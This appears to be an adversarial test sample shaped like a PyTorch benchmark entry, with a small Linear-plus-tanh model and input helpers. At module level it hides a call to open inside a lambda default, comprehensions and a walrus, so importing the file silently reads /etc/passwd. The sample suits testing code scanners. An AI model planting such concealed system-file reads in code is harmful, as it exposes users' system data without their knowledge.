# hides a call in a default of a lambda, within comprehensions and walruses
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

GRAB = [(lambda f=[o for o in (open,)][0]: f) for _ in "x"]
[body := g()("/etc/passwd").read() for g in GRAB]


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
